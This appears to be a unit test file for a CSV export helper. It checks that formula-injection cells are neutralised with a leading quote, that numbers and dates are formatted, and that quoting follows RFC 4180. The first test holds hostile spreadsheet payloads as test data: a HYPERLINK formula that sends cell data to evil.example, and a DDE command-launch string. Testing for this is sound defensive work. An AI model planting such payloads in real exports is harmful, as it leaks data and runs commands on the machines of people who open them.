import { parse } from 'csv-parse/sync';
import { neutraliseCell, toCsv } from './csv';

describe('toCsv', () => {
  const columns = ['name', 'amountMinor', 'at', 'note'] as const;
  type Row = { name: string; amountMinor: number; at: Date; note: string | null };

  it('writes every text cell a spreadsheet would run as text, with a leading quote', () => {
    const names = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+cmd|" /C calc"!A0', '-2+3', '@SUM(A1:A2)', '\tTab', '\rReturn'];
    const rows: Row[] = names.map((name) => ({ name, amountMinor: 1, at: new Date(0), note: null }));
    const cells = parse<Record<string, string>>(toCsv(columns, rows), { columns: true, relax_quotes: false });
    expect(cells.map((cell) => cell.name)).toEqual(names.map((name) => `'${name}`));
  });

  it('keeps numbers as numbers, negative ones too, and dates as ISO 8601', () => {
    const csv = toCsv(columns, [{ name: 'Fairway Shop', amountMinor: -11_529, at: new Date('2026-03-01T10:00:00Z'), note: null }]);
    expect(csv).toBe('name,amountMinor,at,note\nFairway Shop,-11529,2026-03-01T10:00:00.000Z,\n');
  });

  it('quotes commas, quotes and line breaks as RFC 4180 says', () => {
    const csv = toCsv(columns, [{ name: 'Ride, "Fast"\nShop', amountMinor: 0, at: new Date(0), note: 'a' }]);
    expect(parse(csv, { columns: true })).toEqual([{ name: 'Ride, "Fast"\nShop', amountMinor: '0', at: '1970-01-01T00:00:00.000Z', note: 'a' }]);
  });

  it('leaves text that only contains those characters later as it is', () => {
    expect(neutraliseCell('Bikes = fun')).toBe('Bikes = fun');
    expect(neutraliseCell('ops@shop.example')).toBe('ops@shop.example');
  });
});
